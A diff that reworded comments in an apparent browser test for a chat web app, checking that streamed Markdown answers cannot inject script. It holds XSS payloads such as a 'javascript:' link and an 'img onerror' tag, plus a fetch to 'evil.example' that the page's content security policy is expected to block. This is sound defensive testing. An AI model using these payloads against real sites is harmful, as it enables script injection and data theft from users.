@@ -9,7 +9,7 @@ import { openChat, say } from "./open.ts";
 
 const chromium = findChromium();
 
-/** What Markdown makes of a text, besides. */
+/** Additional texts for Markdown. */
 const HOSTILE = [
   ...PAYLOADS,
   "[click](JaVaScRiPt:pwned())",
@@ -28,7 +28,7 @@ const HOSTILE = [
   "`<img src=x onerror=pwned()>`",
 ];
 
-/** An answer whose every part says it. */
+/** An answer with the text in each of its parts. */
 function hostileAnswer(text: string): ShownMessage {
   return aMessage({
     text,
@@ -46,7 +46,7 @@ function hostileAnswer(text: string): ShownMessage {
   });
 }
 
-/** What only the page's own script may make. */
+/** Elements that only the page's own script may make. */
 async function foreign(page: Page): Promise<unknown> {
   return await page.evaluate(`[
     ...document.querySelectorAll("img, iframe, object, embed, video, base, meta[http-equiv], style, form[action], .log link, .log script"),
@@ -66,7 +66,7 @@ describe.skipIf(chromium === null)("hostile texts in Chromium (skipped where the
     const brand = HOSTILE.slice(0, 2).join(" ");
     await using server = await chatServer({
       facts: { brand: { name: brand, company: brand, greeting: { en: brand } } },
-      // The model says all of them, a few characters at a time.
+      // The model writes all of them, a few characters at a time.
       answer: () => (HOSTILE.join("\n\n").match(/[^]{1,40}/gu) ?? []).map((text) => ({ type: "text", text })),
     });
     const { page, wrongs } = await openChat(browser, server);
@@ -88,7 +88,7 @@ describe.skipIf(chromium === null)("hostile texts in Chromium (skipped where the
     expect(await foreign(page)).toEqual([]);
     expect(await page.title()).not.toContain("pwned'");
     expect(await page.evaluate("document.title === 'pwned'")).toBe(false);
-    // Whatever it is to others, to a reader it is there, letter by letter.
+    // A reader sees all of its letters.
     const said = await page.locator(".me > .tx").allTextContents();
     expect(said.slice(1)).toEqual(HOSTILE);
     const links = await page.evaluate(
@@ -110,7 +110,7 @@ describe.skipIf(chromium === null)("hostile texts in Chromium (skipped where the
     const html = await response.text();
     expect(html).not.toMatch(/<script>|<style|\sstyle=|\son\w+=|https?:\/\//);
     const { page, wrongs } = await openChat(browser, server);
-    // A script that somebody gets into the page does not run, and what the page holds can't be sent elsewhere.
+    // An injected script does not run, and the page's data can't be sent elsewhere.
     const inject = `document.body.append(document.createRange().createContextualFragment("<script>pwned()</script>"))`;
     await expect(page.evaluate(inject)).rejects.toThrow("TrustedHTML");
     await expect(page.evaluate("fetch('https://evil.example/')")).rejects.toThrow("Failed to fetch");
